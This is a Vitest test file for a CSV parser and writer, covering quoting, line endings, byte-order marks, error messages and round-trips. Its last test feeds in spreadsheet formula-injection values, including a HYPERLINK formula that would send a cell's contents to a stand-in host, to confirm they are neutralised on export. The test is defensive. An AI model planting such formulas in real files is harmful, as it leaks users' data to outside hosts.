import { describe, expect, it } from 'vitest';
import { parseCsv, toCsv } from './csv.ts';

describe('CSV', () => {
	it('parses plain rows and skips blank lines', () => {
		expect(parseCsv('a,b,c\n1,2,3\n\n')).toEqual({
			ok: true,
			rows: [
				['a', 'b', 'c'],
				['1', '2', '3']
			]
		});
	});

	it('reads quoted fields holding commas, doubled quotes and line breaks', () => {
		const text = 'Title,Description\n"Buy local, first","She said ""yes""\nthen left"\n';
		expect(parseCsv(text)).toEqual({
			ok: true,
			rows: [
				['Title', 'Description'],
				['Buy local, first', 'She said "yes"\nthen left']
			]
		});
	});

	it('drops the byte-order mark Excel writes and reads Windows line endings', () => {
		const text = '\uFEFFRef,Title\r\nSP-01,"Spend, analysed"\r\nSP-02,Food\r\n';
		expect(parseCsv(text)).toEqual({
			ok: true,
			rows: [
				['Ref', 'Title'],
				['SP-01', 'Spend, analysed'],
				['SP-02', 'Food']
			]
		});
	});

	it('keeps empty fields and a last line without a line ending', () => {
		expect(parseCsv('a,,c\n,,')).toEqual({
			ok: true,
			rows: [
				['a', '', 'c'],
				['', '', '']
			]
		});
	});

	it('says where an unclosed quote starts', () => {
		expect(parseCsv('a,b\n1,"never closed\n2,3\n')).toEqual({
			ok: false,
			message: 'A quoted field that starts on line 2 is never closed: check for a missing ".'
		});
	});

	it('writes what it reads back unchanged', () => {
		const rows = [
			['Ref', 'Title', 'Note'],
			['SP-01', 'Spend, analysed', 'He said "go"\r\nthen stopped'],
			['SP-02', ' padded ', '']
		];
		const text = toCsv(rows);
		expect(text.endsWith('\r\n')).toBe(true);
		expect(parseCsv(text)).toEqual({ ok: true, rows });
	});

	it('keeps a field from running as a formula in a spreadsheet, and reads it back as it was', () => {
		const fields = ['=HYPERLINK("http://x/?"&A1,"Click")', '+1', '@SUM(A1)', '-cmd', '-5', '-2.5'];
		const text = toCsv([fields]);
		expect(text.startsWith('\uFEFF')).toBe(true);
		expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`);
		expect(text).toContain(",'+1,'@SUM(A1),'-cmd,-5,-2.5");
		expect(parseCsv(text)).toEqual({ ok: true, rows: [fields] });
	});
});
